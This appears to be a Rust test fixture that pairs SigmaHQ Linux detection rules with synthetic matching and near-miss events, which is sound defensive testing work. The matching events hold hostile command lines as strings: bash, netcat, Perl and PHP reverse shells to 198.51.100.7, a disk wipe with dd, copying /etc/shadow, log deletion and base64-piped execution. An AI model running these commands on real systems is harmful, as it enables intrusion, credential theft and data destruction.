//! Hand-made matching and near-miss events for a sample of SigmaHQ Linux rules.

use serde_json::{Value, json};

use super::{exec, merge, net, open};

fn p(exe: &str, cmd: &str) -> Value {
    exec(0.0, 77, exe, cmd, json!({}))
}

fn pp(exe: &str, cmd: &str, pexe: &str, pcmd: &str) -> Value {
    exec(
        0.0,
        77,
        exe,
        cmd,
        json!({"process": {"parent": {"executable": pexe, "command_line": pcmd}}}),
    )
}

fn px(exe: &str, cmd: &str, extra: Value) -> Value {
    let mut e = p(exe, cmd);
    merge(&mut e, extra);
    e
}

fn conn(exe: &str, ip: &str, port: u16, extra: Value) -> Value {
    net(0.0, 77, exe, true, (ip, port), extra)
}

fn write(exe: &str, path: &str) -> Value {
    open(0.0, 77, exe, path, true)
}

/// (rule file stem, an event it must match, a near-miss it must not match).
pub(super) fn samples() -> Vec<(&'static str, Value, Value)> {
    let omigod = |dir: &str| json!({"user": {"name": "root", "audit": {"id": "0"}}, "process": {"working_directory": dir}});
    let long = "a".repeat(120);
    vec![
        (
            "proc_creation_lnx_apt_shell_execution",
            p(
                "/usr/bin/apt-get",
                "apt-get update -o APT::Update::Pre-Invoke::=/bin/sh",
            ),
            p("/usr/bin/apt-get", "apt-get update"),
        ),
        (
            "proc_creation_lnx_at_command",
            p("/usr/bin/at", "at now"),
            p("/usr/bin/cat", "cat now"),
        ),
        (
            "proc_creation_lnx_auditctl_clear_rules",
            p("/usr/sbin/auditctl", "auditctl -D"),
            p("/usr/sbin/auditctl", "auditctl -l"),
        ),
        (
            "proc_creation_lnx_av_kaspersky_av_disabled",
            p("/usr/bin/systemctl", "systemctl stop kesl"),
            p("/usr/bin/systemctl", "systemctl stop nginx"),
        ),
        (
            "proc_creation_lnx_base64_decode",
            p("/usr/bin/base64", "base64 -d f"),
            p("/usr/bin/base64", "base64 f"),
        ),
        (
            "proc_creation_lnx_base64_execution",
            p("/usr/bin/bash", "bash -c echo aWQK | base64 -d | bash"),
            p("/usr/bin/bash", "bash -c echo aWQK | base64 -d > out"),
        ),
        (
            "proc_creation_lnx_base64_shebang_cli",
            p("/usr/bin/echo", "echo IyEvYmluL2Jhc2gKaWQK"),
            p("/usr/bin/echo", "echo aGVsbG8K"),
        ),
        (
            "proc_creation_lnx_bash_interactive_shell",
            p(
                "/usr/bin/bash",
                "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            ),
            p("/usr/bin/bash", "bash -c ls"),
        ),
        (
            "proc_creation_lnx_bpftrace_unsafe_option_usage",
            p("/usr/bin/bpftrace", "bpftrace --unsafe -e x"),
            p("/usr/bin/bpftrace", "bpftrace -e x"),
        ),
        (
            "proc_creation_lnx_cap_setuid",
            p("/usr/sbin/setcap", "setcap cap_setuid+ep /tmp/py"),
            p("/usr/sbin/setcap", "setcap cap_net_raw+ep /tmp/py"),
        ),
        (
            "proc_creation_lnx_capsh_shell_invocation",
            p("/usr/sbin/capsh", "capsh --"),
            p("/usr/sbin/capsh", "capsh --print"),
        ),
        (
            "proc_creation_lnx_chattr_immutable_removal",
            p("/usr/bin/chattr", "chattr -i /etc/passwd"),
            p("/usr/bin/chattr", "chattr +i /etc/passwd"),
        ),
        (
            "proc_creation_lnx_cp_passwd_or_shadow_tmp",
            p("/usr/bin/cp", "cp /etc/shadow /tmp/s"),
            p("/usr/bin/cp", "cp /etc/hosts /tmp/h"),
        ),
        (
            "proc_creation_lnx_crontab_enumeration",
            p("/usr/bin/crontab", "crontab -l"),
            p("/usr/bin/crontab", "crontab -e"),
        ),
        (
            "proc_creation_lnx_crypto_mining",
            p("/tmp/.x/xmrig", "xmrig --donate-level=0 -o x"),
            p("/usr/bin/ls", "ls -la"),
        ),
        (
            "proc_creation_lnx_curl_wget_exec_tmp",
            p(
                "/usr/bin/dash",
                "sh -c /usr/bin/curl http://198.51.100.7 -o /tmp/a",
            ),
            p(
                "/usr/bin/dash",
                "sh -c /usr/bin/curl http://198.51.100.7 -o /home/a",
            ),
        ),
        (
            "proc_creation_lnx_dd_file_overwrite",
            p("/usr/bin/dd", "dd if=/dev/zero of=/dev/sda"),
            p("/usr/bin/dd", "dd if=/dev/sda of=/backup.img"),
        ),
        (
            "proc_creation_lnx_dd_process_injection",
            p("/usr/bin/dd", "dd of=/proc/1234/mem bs=1"),
            p("/usr/bin/dd", "dd of=/tmp/x"),
        ),
        (
            "proc_creation_lnx_disable_ufw",
            p("/usr/sbin/ufw", "ufw disable"),
            p("/usr/sbin/ufw", "ufw enable"),
        ),
        (
            "proc_creation_lnx_env_shell_invocation",
            p("/usr/bin/env", "env /bin/sh"),
            p("/usr/bin/env", "env PATH=/x ls"),
        ),
        (
            "proc_creation_lnx_find_shell_execution",
            p("/usr/bin/find", "find . -exec /bin/sh ;"),
            p("/usr/bin/find", "find . -name x"),
        ),
        (
            "proc_creation_lnx_git_shell_execution",
            pp(
                "/usr/bin/dash",
                "sh 0<&1",
                "/usr/bin/git",
                "git -p help config",
            ),
            pp("/usr/bin/dash", "sh 0<&1", "/usr/bin/git", "git status"),
        ),
        (
            "proc_creation_lnx_grep_os_arch_discovery",
            p("/usr/bin/grep", "grep x86_64"),
            p("/usr/bin/grep", "grep foo"),
        ),
        (
            "proc_creation_lnx_local_groups",
            p("/usr/bin/cat", "cat /etc/group"),
            p("/usr/bin/cat", "cat /etc/hosts"),
        ),
        (
            "proc_creation_lnx_mkfifo_named_pipe_creation_susp_location",
            p("/usr/bin/mkfifo", "mkfifo /tmp/f"),
            p("/usr/bin/mkfifo", "mkfifo /run/f"),
        ),
        (
            "proc_creation_lnx_mount_hidepid",
            p("/usr/bin/mount", "mount -o remount,rw,hidepid=2 /proc"),
            p("/usr/bin/mount", "mount -o remount /proc"),
        ),
        (
            "proc_creation_lnx_netcat_reverse_shell",
            p("/usr/bin/nc", "nc 198.51.100.7 4444 -e /bin/bash"),
            p("/usr/bin/nc", "nc -l 4444"),
        ),
        (
            "proc_creation_lnx_nice_shell_execution",
            p("/usr/bin/nice", "nice /bin/sh"),
            p("/usr/bin/nice", "nice make"),
        ),
        (
            "proc_creation_lnx_nohup_susp_execution",
            p("/usr/bin/nohup", "nohup /tmp/x"),
            p("/usr/bin/nohup", "nohup sleep 1"),
        ),
        (
            "proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand",
            px(
                "/bin/sh",
                "/bin/sh -c id",
                omigod("/var/opt/microsoft/scx/tmp"),
            ),
            px("/bin/sh", "/bin/sh -c id", omigod("/tmp")),
        ),
        (
            "proc_creation_lnx_perl_reverse_shell",
            p(
                "/usr/bin/perl",
                "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(4444,inet_aton(\"198.51.100.7\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
            ),
            p("/usr/bin/perl", "perl -e print 1"),
        ),
        (
            "proc_creation_lnx_php_reverse_shell",
            p(
                "/usr/bin/php",
                "php -r $s=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3\");",
            ),
            p("/usr/bin/php", "php -r echo 1;"),
        ),
        (
            "proc_creation_lnx_pnscan_binary_cli_pattern",
            p(
                "/usr/bin/pnscan",
                "pnscan -W \"2a 31 0d 0a\" 10.0.0.0/8 6379",
            ),
            p("/usr/bin/pnscan", "pnscan 10.0.0.0/8 6379"),
        ),
        (
            "proc_creation_lnx_proxy_connection",
            p(
                "/usr/bin/env",
                "env http_proxy=http://198.51.100.7:3128 curl x",
            ),
            p("/usr/bin/curl", "curl x"),
        ),
        (
            "proc_creation_lnx_python_base64_encoded_execution",
            p(
                "/usr/bin/python3",
                "python3 -c import base64;exec(base64.b64decode('aW1wb3J0IG9z'))",
            ),
            p("/usr/bin/python3", "python3 -c import os"),
        ),
        (
            "proc_creation_lnx_clear_syslog",
            p("/usr/bin/rm", "rm -f /var/log/syslog"),
            p("/usr/bin/rm", "rm -f /tmp/syslog"),
        ),
        (
            "proc_creation_lnx_file_deletion",
            p("/usr/bin/rm", "rm x"),
            p("/usr/bin/ls", "ls x"),
        ),
        (
            "proc_creation_lnx_install_root_certificate",
            p("/usr/sbin/update-ca-certificates", "update-ca-certificates"),
            p("/usr/bin/openssl", "openssl x509"),
        ),
        (
            "proc_creation_lnx_doas_execution",
            p("/usr/bin/doas", "doas id"),
            p("/usr/bin/sudo", "sudo id"),
        ),
        (
            "proc_creation_lnx_groupdel",
            p("/usr/sbin/groupdel", "groupdel x"),
            p("/usr/sbin/groupadd", "groupadd x"),
        ),
        (
            "net_connection_lnx_susp_malware_callback_port",
            conn("/usr/bin/nc", "198.51.100.7", 4444, json!({})),
            conn("/usr/bin/nc", "10.1.2.3", 4444, json!({})),
        ),
        (
            "net_connection_lnx_back_connect_shell_dev",
            conn("/usr/bin/bash", "198.51.100.7", 4444, json!({})),
            conn("/usr/bin/bash", "127.0.0.1", 4444, json!({})),
        ),
        (
            "net_connection_lnx_domain_localtonet_tunnel",
            conn(
                "/usr/bin/ssh",
                "198.51.100.7",
                22,
                json!({"destination": {"domain": "x.localto.net"}}),
            ),
            conn(
                "/usr/bin/ssh",
                "198.51.100.7",
                22,
                json!({"destination": {"domain": "example.org"}}),
            ),
        ),
        (
            "file_event_lnx_susp_cron_file_created",
            write("/usr/bin/vi", "/etc/cron.d/evil"),
            write("/usr/bin/dpkg", "/etc/cron.daily/apt"),
        ),
        (
            "file_event_lnx_wget_download_file_in_tmp_dir",
            write("/usr/bin/wget", "/tmp/x"),
            write("/usr/bin/wget", "/home/u/x"),
        ),
        (
            "file_event_lnx_persistence_sudoers_files",
            write("/usr/bin/vi", "/etc/sudoers.d/evil"),
            write("/usr/bin/dpkg", "/etc/sudoers.d/README.dpkg-new"),
        ),
        (
            "file_event_lnx_triple_cross_rootkit_lock_file",
            write("/usr/bin/x", "/tmp/rootlog"),
            write("/usr/bin/x", "/tmp/rootlog2"),
        ),
        (
            "file_event_lnx_susp_long_filename_pattern",
            write("/usr/bin/x", &format!("/tmp/{long}")),
            write("/usr/bin/x", &format!("/var/log/journal/{long}")),
        ),
        (
            "file_event_lnx_python_path_configuration_files",
            write("/usr/bin/pip", "/usr/lib/python3.11/site-packages/evil.pth"),
            write("/usr/bin/pip", "/usr/lib/python3.11/site-packages/evil.py"),
        ),
    ]
}
